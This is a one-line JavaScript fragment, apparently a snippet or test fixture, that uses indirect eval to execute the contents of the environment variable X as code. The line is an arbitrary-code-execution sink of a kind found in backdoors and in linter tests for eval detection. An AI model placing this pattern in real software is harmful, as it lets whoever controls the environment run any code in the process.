(0, eval)(process.env.X);
